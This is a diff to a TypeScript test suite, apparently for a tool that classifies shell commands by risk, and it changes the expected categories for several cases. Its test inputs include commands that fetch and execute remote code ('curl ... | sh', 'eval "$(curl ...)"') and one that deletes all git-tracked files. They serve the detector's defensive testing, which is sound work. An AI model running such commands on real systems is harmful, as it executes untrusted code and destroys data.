@@ -151,8 +151,8 @@ describe("what is written", () => {
 describe("what is not known", () => {
   const cases: readonly (readonly [command: string, ...unknown: string[]])[] = [
     ["$x a", "program"],
-    ["no-such-program-at-all", "program"],
-    ["./nothing", "program"],
+    ["no-such-program-at-all", "unlisted"],
+    ["./nothing"],
     ["curl -s http://example.org | sh", "code"],
     ["eval $x", "code"],
     ["node <(echo 1)", "code"],
@@ -161,7 +161,7 @@ describe("what is not known", () => {
     ["x=1; ((0 && (x = 5))); echo > $x", "write"],
     ['eval "$(curl -s http://example.org)"', "code"],
     ['bash -c "$x"', "code"],
-    ["source nothing.sh", "code"],
+    ["source nothing.sh"],
     ["echo a > f.sh; cp g f.sh; bash f.sh", "code"],
     ["echo > $x", "write"],
     ["rm $(git ls-files)", "write"],
